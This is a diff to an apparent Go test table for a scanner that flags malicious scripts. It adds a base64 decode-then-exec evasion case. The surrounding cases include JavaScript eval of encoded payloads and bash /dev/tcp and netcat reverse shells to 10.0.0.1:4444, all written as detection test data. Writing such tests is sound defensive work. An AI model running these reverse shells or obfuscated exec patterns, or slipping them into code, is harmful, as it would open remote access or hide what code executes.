@@ -87,6 +87,9 @@ var evasions = []struct {
 	{"js eval of char codes", map[string]string{"scripts/a.js": "eval(String.fromCharCode(99,117,114,108));\n"}, "decode-exec"},
 	{"js eval of hex buffer", map[string]string{"scripts/a.js": "eval(Buffer.from(p, 'hex').toString());\n"}, "decode-exec"},
 
+	// Decoded into a variable on one line, run on another.
+	{"decode then exec on the next line", map[string]string{"scripts/a.py": "import base64\ncode = base64.b64decode(P)\nexec(code)\n"}, "decode-exec"},
+
 	// Threats no rule covered.
 	{"bash reverse shell", map[string]string{"scripts/a.sh": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"}, "reverse-shell"},
 	{"netcat reverse shell", map[string]string{"scripts/a.sh": "nc -e /bin/sh 10.0.0.1 4444\n"}, "reverse-shell"},
